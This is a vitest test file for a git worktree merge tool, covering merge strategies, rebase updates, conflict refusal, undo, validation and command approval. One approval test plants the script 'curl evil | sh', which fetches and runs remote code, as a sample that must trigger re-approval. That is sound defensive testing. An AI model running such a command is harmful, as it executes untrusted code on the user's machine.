import { chmod, mkdir, readdir, readFile, rename, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { beforeStep } from '../../support/altered-journal';
import { locationOf } from '../../support/git-command';
import { worktreeIdOf } from '../../support/landing/fleet';
import { createHouse } from '../../support/landing/house';
import type { MergeScene } from '../../support/landing/merge-scene';
import { mergeScene } from '../../support/landing/merge-scene';
import { poll } from '../../support/poll';

const parents = async (s: MergeScene, commit = 'main') =>
  (await s.git('log', '-1', '--format=%P', commit)).split(' ').filter((one) => one !== '');

test('a merge commit lands in the checked-out base, and undo takes it back', async () => {
  const s = await mergeScene();
  const before = await s.state();
  const [main, tip] = [await s.git('rev-parse', 'main'), await s.git('rev-parse', 'feature/login')];
  const plan = await s.plan();
  expect(plan).toMatchObject({
    refusal: null,
    update: null,
    conflicts: [],
    branch: 'feature/login',
    base: 'main',
  });
  expect(plan.warnings).toEqual(['No way to validate was found: nothing is built or tested.']);
  const done = await s.land();
  expect(done.landed).toEqual({ sha: await s.git('rev-parse', 'main'), base: 'main' });
  expect(await parents(s)).toEqual([main, tip]);
  expect(await s.git('log', '-1', '--format=%s')).toBe("Merge branch 'feature/login'");
  expect(await readFile(join(s.repository, 'login.txt'), 'utf8')).toBe('login\nlogout\n');
  expect(await s.git('status', '--porcelain')).toBe('');
  const undone = await s.undoer.undo({ operation: null });
  expect(undone).toMatchObject({ ok: true, value: { restored: [`main at ${main.slice(0, 9)}`] } });
  expect(await s.state()).toEqual(before);
});

test('fast-forward and squash land what they say', async () => {
  const ff = await mergeScene();
  await ff.land({ strategy: 'ff' });
  expect(await ff.git('rev-parse', 'main')).toBe(await ff.git('rev-parse', 'feature/login'));
  const squash = await mergeScene();
  const main = await squash.git('rev-parse', 'main');
  await squash.land({ strategy: 'squash' });
  expect(await parents(squash)).toEqual([main]);
  expect(await squash.git('log', '-1', '--format=%B')).toContain('* Add login\n* Add logout');
  expect(await squash.git('diff', 'main', 'feature/login')).toBe('');
});

test('a base that is checked out nowhere lands without touching any working tree', async () => {
  const s = await mergeScene();
  await s.git('checkout', '-q', '-b', 'elsewhere');
  const plan = await s.plan();
  expect(plan.steps.at(-1)?.text).toContain('no working tree is touched');
  await s.land();
  expect(await s.git('log', '-1', '--format=%s', 'main')).toBe("Merge branch 'feature/login'");
  await expect(readFile(join(s.repository, 'login.txt'))).rejects.toThrow();
  expect(await s.undoer.undo({ operation: null })).toMatchObject({ ok: true });
  expect(await s.git('log', '-1', '--format=%s', 'main')).toBe('first');
});

for (const update of ['merge', 'rebase'] as const)
  for (const strategy of ['merge', 'ff', 'squash'] as const)
    test(`a base that moved is brought in by ${update} first, and what is validated is what lands (${strategy})`, async () => {
      const s = await mergeScene({
        config: { validate: ['git rev-parse "HEAD^{tree}" > "$HOME/validated"'] },
      });
      await s.sandbox.commit(s.repository, { 'moved.txt': 'on\n' }, 'Main moves');
      const [tip, main] = [await s.git('rev-parse', 'feature/login'), await s.git('rev-parse', 'main')];
      const before = await s.state();
      const plan = await s.plan({ update, strategy });
      expect(plan).toMatchObject({ update });
      await s.land({ update, strategy });
      const validated = (await readFile(join(s.sandbox.home, 'validated'), 'utf8')).trim();
      expect(await s.git('rev-parse', 'main^{tree}')).toBe(validated);
      expect(await s.inside('status', '--porcelain')).toBe('');
      expect(await readFile(join(s.worktree, 'moved.txt'), 'utf8')).toBe('on\n');
      await s.git('merge-base', '--is-ancestor', main, 'main');
      if (update === 'rebase') {
        expect(await s.git('log', '--format=%s|%an', `${main}..feature/login`)).toBe(
          'Add logout|Test Person\nAdd login|Test Person',
        );
        expect(await s.git('rev-parse', 'feature/login~2')).toBe(main);
      }
      expect(await s.undoer.undo({ operation: null })).toMatchObject({ ok: true });
      expect(await s.git('rev-parse', 'feature/login')).toBe(tip);
      expect(await s.state()).toEqual(before);
    });

test('a conflict is predicted with its lines, and refused before anything is touched', async () => {
  const s = await mergeScene();
  await s.sandbox.commit(s.worktree, { 'src/one.txt': 'one\nMINE\nthree\n' });
  await s.sandbox.commit(s.repository, { 'src/one.txt': 'one\nTHEIRS\nthree\n' });
  const before = await s.state();
  const objects = await s.git('count-objects', '-v');
  for (const update of ['merge', 'rebase'] as const) {
    const plan = await s.plan({ update });
    expect(plan.conflicts).toEqual(['src/one.txt']);
    expect(plan.refusal).toEqual({ kind: 'conflict', files: ['src/one.txt'] });
    expect(plan.warnings.join()).toContain('src/one.txt conflicts at line 2');
    expect(await s.merger.merge({ token: plan.token, approve: true })).toMatchObject({
      ok: false,
      error: { kind: 'conflict' },
    });
  }
  expect(await s.state()).toEqual(before);
  expect(await s.git('count-objects', '-v')).toBe(objects);
});

test('a rebase that conflicts half way leaves the worktree exactly as it was', async () => {
  const s = await mergeScene();
  await s.sandbox.commit(s.worktree, { 'src/one.txt': 'one\nMINE\nthree\n' });
  // Taken back again: a merge is clean, the rebase is not.
  await s.sandbox.commit(s.worktree, { 'src/one.txt': 'one\ntwo\nthree\n' });
  await s.sandbox.commit(s.repository, { 'src/one.txt': 'one\nTHEIRS\nthree\n' });
  const before = await s.state();
  expect((await s.plan({ update: 'merge' })).refusal).toBe(null);
  const plan = await s.plan({ update: 'rebase' });
  expect(plan.refusal).toEqual({ kind: 'conflict', files: ['src/one.txt'] });
  const rebase = await s.merger.planRebase({ worktreeId: s.id });
  expect(rebase).toMatchObject({ ok: true, value: { refusal: { kind: 'conflict' } } });
  expect(await s.state()).toEqual(before);
});

test('a sibling rebases by itself, and undo takes that back', async () => {
  const s = await mergeScene();
  await s.sandbox.commit(s.repository, { 'moved.txt': 'on\n' });
  const before = await s.state();
  const planned = await s.merger.planRebase({ worktreeId: s.id });
  if (!planned.ok) throw new Error('refused');
  const done = await s.merger.merge({ token: planned.value.token, approve: false });
  expect(done).toMatchObject({ ok: true, value: { landed: null } });
  expect(await s.git('rev-parse', 'feature/login~2')).toBe(await s.git('rev-parse', 'main'));
  expect(await s.undoer.undo({ operation: null })).toMatchObject({ ok: true });
  expect(await s.state()).toEqual(before);
});

test('what is not committed refuses by name; unchanged copies and brain notes do not', async () => {
  const s = await mergeScene();
  await s.sandbox.write(join(s.worktree, '.planning/brain/n.md'), 'note');
  expect((await s.plan()).refusal).toBe(null);
  await s.sandbox.write(join(s.worktree, 'stray file.txt'), 'x');
  await s.sandbox.write(join(s.worktree, 'login.txt'), 'changed');
  expect((await s.plan()).refusal).toEqual({
    kind: 'dirty',
    path: s.worktree,
    files: ['login.txt', 'stray file.txt'],
  });
});

test('a fresh branch, and one whose work is there by squash, have nothing to merge', async () => {
  const s = await mergeScene();
  const fresh = await s.sandbox.worktree(s.repository, join(s.sandbox.root, 'fresh'), 'fresh', 'main');
  expect(
    await s.merger.planMerge({
      worktreeId: worktreeIdOf(fresh),
      strategy: 'merge',
      update: 'merge',
      skipValidation: false,
      push: false,
    }),
  ).toMatchObject({
    ok: true,
    value: { refusal: { kind: 'nothing-to-merge', branch: 'fresh', base: 'main' } },
  });
  await s.git('merge', '-q', '--squash', 'feature/login');
  await s.git('commit', '-q', '-m', 'squashed');
  expect((await s.plan()).refusal).toMatchObject({ kind: 'nothing-to-merge' });
});

test('a session mid-turn there refuses, the one that asks does not, and it is looked at before each step', async () => {
  const s = await mergeScene({
    journal: (journal) => ({
      ...journal,
      async begin(location, entry) {
        s.sessions.set(s.id, [{ pid: 7, state: 'needs-permission', isCaller: false }]);
        return journal.begin(location, entry);
      },
    }),
  });
  await s.sandbox.commit(s.repository, { 'moved.txt': 'on\n' });
  s.sessions.set(s.id, [{ pid: 7, state: 'working', isCaller: false }]);
  expect((await s.plan()).refusal).toEqual({ kind: 'session-busy', path: s.worktree, state: 'working' });
  s.sessions.set(s.id, [{ pid: 7, state: 'working', isCaller: true }]);
  expect((await s.plan()).refusal).toBe(null);
  s.sessions.set(s.id, [{ pid: 7, state: 'idle', isCaller: false }]);
  const before = await s.state();
  const { token } = await s.plan();
  expect(await s.merger.merge({ token, approve: true })).toEqual({
    ok: false,
    error: { kind: 'session-busy', path: s.worktree, state: 'needs-permission' },
  });
  expect(await s.state()).toEqual(before);
});

test('an operation under way in the worktree or in the base’s is refused', async () => {
  const s = await mergeScene();
  await s.sandbox.commit(s.repository, { 'login.txt': 'other\n' });
  await expect(s.inside('merge', 'main')).rejects.toThrow();
  expect((await s.plan()).refusal).toEqual({
    kind: 'operation-under-way',
    path: s.worktree,
    operation: 'merge',
  });
  await s.inside('merge', '--abort');
  const t = await mergeScene();
  await t.git('branch', 'other', 'main');
  await t.sandbox.commit(t.repository, { 'src/one.txt': 'mine\n' });
  await t.git('checkout', '-q', 'other');
  await t.sandbox.commit(t.repository, { 'src/one.txt': 'theirs\n' });
  await t.git('checkout', '-q', 'main');
  await expect(t.git('rebase', 'other')).rejects.toThrow();
  // worktree list calls it detached, but main is being rebased there.
  expect((await t.plan({ strategy: 'squash' })).refusal).toMatchObject({
    kind: 'operation-under-way',
    path: t.repository,
    operation: 'rebase',
  });
});

test('a base that is not clean refuses; an untracked file only where landing would write it', async () => {
  const s = await mergeScene();
  await s.sandbox.write(join(s.repository, 'unrelated.txt'), 'x');
  expect((await s.plan()).refusal).toBe(null);
  await s.sandbox.write(join(s.repository, 'login.txt'), 'mine, untracked');
  expect((await s.plan()).refusal).toEqual({ kind: 'base-dirty', path: s.repository, files: ['login.txt'] });
  // An ignored one is somebody's as well, and git would write over it without a word.
  await s.sandbox.write(join(s.repository, '.git/info/exclude'), 'login.txt\n');
  expect((await s.plan()).refusal).toEqual({ kind: 'base-dirty', path: s.repository, files: ['login.txt'] });
  await rename(join(s.repository, 'login.txt'), join(s.repository, 'kept.txt'));
  await s.sandbox.write(join(s.repository, 'README.md'), 'changed');
  expect((await s.plan()).refusal).toEqual({ kind: 'base-dirty', path: s.repository, files: ['README.md'] });
});

test('a base that moved since the plan, or while it validates, refuses and undoes the update', async () => {
  const s = await mergeScene({
    config: {
      validate: ['test ! -e "$HOME/move" || git -C ../project commit -q --allow-empty -m meanwhile'],
    },
  });
  await s.sandbox.commit(s.repository, { 'moved.txt': 'on\n' });
  const stale = await s.plan();
  await s.sandbox.commit(s.repository, { 'again.txt': 'on\n' });
  expect(await s.merger.merge({ token: stale.token, approve: true })).toMatchObject({
    ok: false,
    error: { kind: 'base-moved' },
  });
  const tip = await s.git('rev-parse', 'feature/login');
  await writeFile(join(s.sandbox.home, 'move'), '');
  expect(await s.attempt()).toMatchObject({ ok: false, error: { kind: 'base-moved', base: 'main' } });
  expect(await s.git('rev-parse', 'feature/login')).toBe(tip);
  expect(await s.git('log', '-1', '--format=%s', 'main')).toBe('meanwhile');
  expect(await s.git('for-each-ref', 'refs/orchard')).toBe('');
});

test('red validation stops, its output is streamed and kept; skipping is by name', async () => {
  const s = await mergeScene({
    config: { validate: ['echo building', 'echo broken >&2; exit 3', 'echo never'] },
  });
  await s.sandbox.commit(s.repository, { 'moved.txt': 'on\n' });
  const before = await s.state();
  expect(await s.attempt()).toEqual({
    ok: false,
    error: { kind: 'validation-failed', command: 'echo broken >&2; exit 3', exitCode: 3 },
  });
  expect(await s.state()).toEqual(before);
  const shown = s.events.flatMap(({ change }) => (change.type === 'output' ? [change.text] : [])).join('');
  expect(shown).toContain('broken');
  expect(shown).not.toContain('never');
  const logs = join(s.repository, '.git/orchard/logs');
  const [log = ''] = await readdir(logs);
  expect(await readFile(join(logs, log), 'utf8')).toMatch(
    /building[\s\S]*broken[\s\S]*exit code 3, [0-9.]+ s/,
  );
  expect((await s.land({ skipValidation: true })).landed).not.toBe(null);
});

test('validation that changes tracked files stops the merge; other new files do not', async () => {
  const s = await mergeScene({ config: { validate: ['echo made > made.txt; echo formatted >> login.txt'] } });
  const main = await s.git('rev-parse', 'main');
  expect(await s.attempt()).toEqual({
    ok: false,
    error: { kind: 'validation-changed-files', files: ['login.txt'] },
  });
  expect(await s.git('rev-parse', 'main')).toBe(main);
  expect(await readFile(join(s.worktree, 'login.txt'), 'utf8')).toContain('formatted');
  const t = await mergeScene({ config: { validate: ['echo made > made.txt'] } });
  expect((await t.land()).landed).not.toBe(null);
});

test('commands and hooks of the repository run only after their exact text was approved', async () => {
  const s = await mergeScene({ config: { validate: ['touch "$HOME/ran"'] } });
  const plan = await s.plan();
  expect(plan.validation).toEqual([
    { command: { purpose: 'validate', text: 'touch "$HOME/ran"' }, approved: false },
  ]);
  expect(plan.refusal).toMatchObject({ kind: 'approval-needed' });
  expect(await s.merger.merge({ token: plan.token, approve: false })).toMatchObject({
    ok: false,
    error: { kind: 'approval-needed' },
  });
  await expect(readFile(join(s.sandbox.home, 'ran'))).rejects.toThrow();
  expect((await s.merger.merge({ token: plan.token, approve: true })).ok).toBe(true);
  expect(await readFile(join(s.sandbox.home, 'ran'), 'utf8')).toBe('');
  expect(s.approved).toEqual(new Set(['touch "$HOME/ran"']));
});

test('a detected script is approved with what it says, so that a change asks again', async () => {
  const s = await mergeScene();
  const scripts = (test: string) => JSON.stringify({ scripts: { test } });
  await s.sandbox.commit(s.worktree, { 'package.json': scripts('vitest run') });
  const first = await s.plan();
  expect(first.validation).toEqual([
    { command: { purpose: 'detected', text: 'npm run test  # vitest run' }, approved: false },
  ]);
  s.approved.add('npm run test  # vitest run');
  expect((await s.plan()).refusal).toBe(null);
  await s.sandbox.commit(s.worktree, { 'package.json': scripts('curl evil | sh') });
  expect((await s.plan()).refusal).toMatchObject({
    kind: 'approval-needed',
    commands: [{ text: 'npm run test  # curl evil | sh' }],
  });
});

test('cancel ends the validation and puts everything back', async () => {
  const s = await mergeScene({ config: { validate: ['echo started; exec sleep 600'] } });
  await s.sandbox.commit(s.repository, { 'moved.txt': 'on\n' });
  const before = await s.state();
  const merging = s.attempt();
  const started = await poll(
    () => s.events.find(({ change }) => change.type === 'output' && change.text.includes('started')),
    (event) => event !== undefined,
  );
  expect(s.cancel(started?.operation ?? '')).toBe(true);
  expect(await merging).toEqual({ ok: false, error: { kind: 'cancelled' } });
  expect(await s.state()).toEqual(before);
  expect(s.cancel(started?.operation ?? '')).toBe(false);
});

test('a validation that takes too long stops', async () => {
  const s = await mergeScene({ config: { validate: ['exec sleep 600'] }, validationLimitMs: 200 });
  expect(await s.attempt()).toEqual({
    ok: false,
    error: { kind: 'validation-failed', command: 'exec sleep 600', exitCode: null },
  });
});

test('git that does not know who commits is said in the plan, not found out halfway', async () => {
  const s = await mergeScene();
  const before = await s.state();
  // Nothing to guess an address from, on a machine with a proper name as well.
  await writeFile(join(s.sandbox.home, '.gitconfig'), '[user]\n\tuseConfigOnly = true\n');
  expect((await s.plan()).refusal).toMatchObject({
    kind: 'no-identity',
    details: expect.stringContaining('user.'),
  });
  expect(await s.state()).toEqual(before);
  await s.git('config', 'user.name', 'Test Person');
  await s.git('config', 'user.email', 'person@example.com');
  expect(await s.attempt()).toMatchObject({ ok: true });
});

test('a signature that fails stops before any ref moves; one that works is on the commit', async () => {
  const s = await mergeScene();
  const before = await s.state();
  await s.git('config', 'commit.gpgSign', 'true');
  await s.git('config', 'gpg.program', '/bin/false');
  expect(await s.attempt()).toMatchObject({ ok: false, error: { kind: 'signing-failed' } });
  expect(await s.state()).toEqual(before);
  const signer = join(s.sandbox.home, 'signer');
  await writeFile(
    signer,
    '#!/bin/sh\ncat >/dev/null\nprintf "[GNUPG:] SIG_CREATED X\\n" >&2\necho "-----BEGIN PGP SIGNATURE-----"\necho fake\necho "-----END PGP SIGNATURE-----"\n',
  );
  await chmod(signer, 0o755);
  await s.git('config', 'gpg.program', signer);
  await s.land();
  expect(await s.git('cat-file', 'commit', 'main')).toContain('gpgsig -----BEGIN PGP SIGNATURE-----');
});

test('hooks that building the commit skips are named; the reference-transaction hook can refuse', async () => {
  const s = await mergeScene();
  for (const hook of ['commit-msg', 'reference-transaction']) {
    const file = join(s.repository, '.git/hooks', hook);
    await writeFile(
      file,
      '#!/bin/sh\nif [ "$1" = prepared ] && grep -q refs/heads/main; then echo "not on a Friday" >&2; exit 1; fi\nexit 0\n',
    );
    await chmod(file, 0o755);
  }
  const before = await s.state();
  expect((await s.plan()).warnings.join()).toContain('commit-msg');
  expect(await s.attempt()).toMatchObject({
    ok: false,
    error: {
      kind: 'hook-refused',
      hook: 'reference-transaction',
      details: expect.stringContaining('not on a Friday'),
    },
  });
  expect(await s.state()).toEqual(before);
});

test('configuration can’t add steps of its own', async () => {
  const s = await mergeScene();
  await s.sandbox.commit(s.repository, { 'moved.txt': 'on\n' });
  for (const [key, value] of [
    ['merge.ff', 'false'],
    ['branch.main.mergeOptions', '--squash'],
    ['rebase.autoStash', 'true'],
    ['merge.autoStash', 'true'],
    ['rerere.enabled', 'true'],
    ['rebase.updateRefs', 'true'],
  ] as const)
    await s.git('config', key, value);
  await s.git('branch', 'points-into', 'feature/login~1');
  const before = await s.git('rev-parse', 'points-into');
  const done = await s.land({ update: 'rebase' });
  expect(await s.git('rev-parse', 'main')).toBe(done.landed?.sha);
  expect(await s.git('rev-parse', 'points-into')).toBe(before);
  expect(await s.git('status', '--porcelain')).toBe('');
});

test('undo refuses when others built on it, and offers a revert; work in the way refuses too', async () => {
  const s = await mergeScene();
  const done = await s.land();
  await s.sandbox.write(join(s.repository, 'login.txt'), 'being changed\n');
  expect(await s.undoer.undo({ operation: null })).toMatchObject({
    ok: false,
    error: { kind: 'undo-blocked', reason: expect.stringContaining('login.txt') },
  });
  expect(await readFile(join(s.repository, 'login.txt'), 'utf8')).toBe('being changed\n');
  await s.git('checkout', '-q', 'login.txt');
  const newer = await s.sandbox.commit(s.repository, { 'newer.txt': 'x\n' });
  expect(await s.undoer.undo({ operation: done.operation })).toEqual({
    ok: false,
    error: {
      kind: 'undo-blocked',
      reason: 'main has moved on since',
      wayOut: `Take it back with a commit instead: git revert -m 1 ${done.landed?.sha.slice(0, 9)} on main.`,
    },
  });
  expect(await s.git('rev-parse', 'main')).toBe(newer);
});

test('a branch that moved on after the merge is left where it is', async () => {
  const s = await mergeScene();
  await s.land();
  const on = await s.sandbox.commit(s.worktree, { 'more.txt': 'x\n' });
  expect(await s.undoer.undo({ operation: null })).toMatchObject({ ok: true });
  expect(await s.git('rev-parse', 'feature/login')).toBe(on);
  expect(await s.git('log', '-1', '--format=%s', 'main')).toBe('first');
});

test('siblings that collide are named before, and told to rebase now after', async () => {
  const s = await mergeScene();
  const other = await s.sandbox.worktree(
    s.repository,
    join(s.sandbox.root, 'project-wt-other'),
    'feature/other',
    'main',
  );
  await s.sandbox.commit(other, { 'login.txt': 'another\n' });
  const calm = await s.sandbox.worktree(
    s.repository,
    join(s.sandbox.root, 'project-wt-calm'),
    'feature/calm',
    'main',
  );
  await s.sandbox.commit(calm, { 'calm.txt': 'x\n' });
  const plan = await s.plan();
  expect(plan.collisions).toEqual(
    [
      {
        with: worktreeIdOf(other),
        files: ['login.txt'],
        certainty: 'decided',
        kinds: ['content'],
        regions: [
          {
            file: 'login.txt',
            kind: 'add-add',
            ours: {
              file: 'login.txt',
              lines: { from: 1, to: 2 },
              uncommitted: false,
              subject: await s.sandbox.git(s.worktree, 'log', '-1', '--format=%s', '--', 'login.txt'),
            },
            theirs: {
              file: 'login.txt',
              lines: { from: 1, to: 1 },
              uncommitted: false,
              subject: await s.sandbox.git(other, 'log', '-1', '--format=%s'),
            },
          },
        ],
        regionsLeftOut: 0,
      },
    ].map((one) => ({ ...one, kinds: plan.collisions[0]?.kinds })),
  );
  // Once is enough: every face lists collisions, and says who had better go first.
  expect(plan.warnings.join()).not.toContain('login.txt');
  expect((await s.land()).rebaseNow).toEqual([worktreeIdOf(other)]);
});

test('rules that were improved in the worktree are listed to carry over by hand', async () => {
  const s = await mergeScene({
    prepare: async (repository, sandbox) => {
      await sandbox.write(join(repository, '.git/info/exclude'), 'CLAUDE.md\n.claude/\n');
      await sandbox.write(join(repository, 'CLAUDE.md'), 'rules\n');
    },
  });
  await s.sandbox.write(join(s.worktree, 'CLAUDE.md'), 'better rules\n');
  await s.sandbox.write(join(s.worktree, '.claude/commands/new.md'), 'x\n');
  await s.sandbox.write(join(s.worktree, '.claude/worktrees/other/x.md'), 'x\n');
  const plan = await s.plan();
  expect(plan.carryOver).toEqual(['.claude/commands/new.md', 'CLAUDE.md']);
  expect(plan.refusal).toBe(null);
});

test('quick cleans itself up after its merge, and both are undone one after the other', async () => {
  const s = await mergeScene();
  const record = {
    version: 1,
    entry: 'project-wt-login',
    path: s.worktree,
    task: 'quick one',
    branch: 'feature/login',
    base: 'main',
    createdAt: '',
    createdAtCommit: await s.git('rev-parse', 'main'),
    quick: true,
    sessionId: null,
    spawnedAt: '',
    copies: {},
    group: null,
  };
  await s.sandbox.write(
    join(s.repository, '.git/orchard/tasks/project-wt-login.json'),
    JSON.stringify(record),
  );
  const before = await s.state();
  const done = await s.land({ strategy: 'squash' });
  expect(done.removed).toBe(s.worktree);
  expect(await s.git('log', '-1', '--format=%s')).toBe('quick one');
  expect(await s.git('branch', '--list', 'feature/login')).toBe('');
  expect(await s.undoer.undo({ operation: done.operation })).toMatchObject({
    ok: false,
    error: { kind: 'undo-blocked', wayOut: expect.stringContaining('orch undo') },
  });
  expect(await s.undoer.undo({ operation: null })).toMatchObject({ ok: true });
  expect(await s.undoer.undo({ operation: null })).toMatchObject({ ok: true });
  expect(await s.state()).toEqual(before);
});

test('hand-made content of merge commits is not lost in a rebase', async () => {
  const s = await mergeScene();
  await s.sandbox.commit(s.repository, { 'moved.txt': '1\n' });
  await s.inside('merge', '-q', '--no-commit', '--no-ff', 'main');
  await writeFile(join(s.worktree, 'by-hand.txt'), 'only in the merge\n');
  await s.inside('add', '-A');
  await s.inside('commit', '-q', '-m', 'merge with more');
  await s.sandbox.commit(s.repository, { 'moved.txt': '2\n' });
  expect((await s.plan({ update: 'rebase' })).refusal).toEqual({ kind: 'conflict', files: ['by-hand.txt'] });
  expect((await s.plan({ update: 'merge' })).refusal).toBe(null);
});

test('a detached worktree, the main one and a directory that is away are refused', async () => {
  const s = await mergeScene();
  const main = await s.merger.planMerge({
    worktreeId: worktreeIdOf(s.repository),
    strategy: 'merge',
    update: 'merge',
    skipValidation: false,
    push: false,
  });
  expect(main).toMatchObject({ ok: true, value: { refusal: { kind: 'is-main-worktree' } } });
  await s.inside('checkout', '-q', '--detach');
  expect((await s.plan()).refusal).toEqual({ kind: 'detached', path: s.worktree });
  await s.inside('checkout', '-q', 'feature/login');
  await rename(s.worktree, `${s.worktree}-away`);
  expect((await s.plan()).refusal).toEqual({ kind: 'worktree-missing', path: s.worktree });
});

test('another process may execute the plan, once', async () => {
  const s = await mergeScene();
  const { token } = await s.plan();
  const other = createHouse({
    locations: [locationOf(s.repository)],
    env: s.sandbox.env,
    home: s.sandbox.home,
  });
  expect((await other.merger.merge({ token, approve: true })).ok).toBe(true);
  expect(await s.merger.merge({ token, approve: true })).toMatchObject({
    ok: false,
    error: { kind: 'not-found', what: 'plan' },
  });
});

test('a bare repository with worktrees merges and cleans up like any other', async () => {
  const s = await mergeScene();
  const bare = join(s.sandbox.root, 'bare.git');
  await s.sandbox.git(s.sandbox.root, 'clone', '-q', '--bare', s.repository, bare);
  const worktree = join(s.sandbox.root, 'bare-wt');
  await s.sandbox.git(bare, 'worktree', 'add', '-q', worktree, 'feature/login');
  await mkdir(join(worktree, '.planning/brain'), { recursive: true });
  await writeFile(join(worktree, '.planning/brain/n.md'), 'note');
  const house = createHouse({
    locations: [locationOf(bare, true)],
    env: s.sandbox.env,
    home: s.sandbox.home,
  });
  const planned = await house.merger.planMerge({
    worktreeId: worktreeIdOf(worktree),
    strategy: 'merge',
    update: 'merge',
    skipValidation: true,
    push: false,
  });
  if (!planned.ok) throw new Error('refused');
  expect(planned.value.refusal).toBe(null);
  expect((await house.merger.merge({ token: planned.value.token, approve: true })).ok).toBe(true);
  const cleanup = await house.cleaner.planCleanup({
    worktreeId: worktreeIdOf(worktree),
    abandon: null,
    keepBranch: false,
    deleteRemote: false,
  });
  if (!cleanup.ok) throw new Error('refused');
  expect(cleanup.value).toMatchObject({ refusal: null, merged: 'ancestor' });
  expect((await house.cleaner.cleanup({ token: cleanup.value.token, approve: true })).ok).toBe(true);
  expect(await readFile(join(bare, 'orchard/brain/feature/login/n.md'), 'utf8')).toBe('note');
  expect(await house.undoer.undo({ operation: null })).toMatchObject({ ok: true });
  expect(await s.sandbox.git(worktree, 'status', '--porcelain', '-uno')).toBe('');
});

test('an ignored file that appears where a rebase is about to write is not written over', async () => {
  const s = await mergeScene({
    journal: beforeStep(async (step) => {
      if (step === 'update') await writeFile(join(s.worktree, 'moved.txt'), 'precious\n');
    }),
  });
  await s.sandbox.write(join(s.repository, '.git/info/exclude'), 'moved.txt\n');
  await writeFile(join(s.repository, 'moved.txt'), 'on\n');
  await s.git('add', '-f', 'moved.txt');
  await s.git('commit', '-q', '-m', 'Main moves');
  const tip = await s.git('rev-parse', 'feature/login');
  expect(await s.attempt({ update: 'rebase' })).toEqual({
    ok: false,
    error: { kind: 'dirty', path: s.worktree, files: ['moved.txt'] },
  });
  expect(await readFile(join(s.worktree, 'moved.txt'), 'utf8')).toBe('precious\n');
  expect(await s.git('rev-parse', 'feature/login')).toBe(tip);
});
